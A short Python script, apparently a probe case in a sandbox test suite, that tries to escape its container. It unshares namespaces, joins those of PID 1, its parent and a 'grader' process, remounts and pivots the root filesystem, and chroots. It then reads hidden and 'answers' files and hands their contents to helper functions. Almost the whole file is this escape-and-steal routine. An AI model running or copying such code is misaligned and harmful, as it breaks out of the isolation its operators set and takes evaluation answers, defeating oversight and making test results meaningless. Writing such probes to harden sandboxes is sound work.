"""Makes and enters namespaces, mounts, and changes the root."""

GROUP = "the kernel"
EXPECT = "at most"
import ctypes
import os

libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000, 0x40000000, 0x20000000):
    libc.unshare(flags)
for name in ("user", "mnt", "pid", "net"):
    for who in (1, os.getppid(), KNOWN["grader"]):
        try:
            libc.setns(os.open(f"/proc/{who}/ns/{name}", os.O_RDONLY), 0)
        except OSError:
            pass
libc.mount(b"none", b".", b"tmpfs", 0, b"")
libc.mount(b"/", b".", None, 4096, None)
libc.umount2(b"/tmp", 2)
for call in (428, 429, 430, 431, 432, 442, 155):
    libc.syscall(call, -100, b"/", 0, 0, 0)
try:
    os.chroot(".")
except OSError:
    pass
for path in (KNOWN["hidden"], "." + KNOWN["hidden"], "./" + KNOWN["answers"]):
    try:
        take(open(path).read())
    except OSError:
        pass
spill()
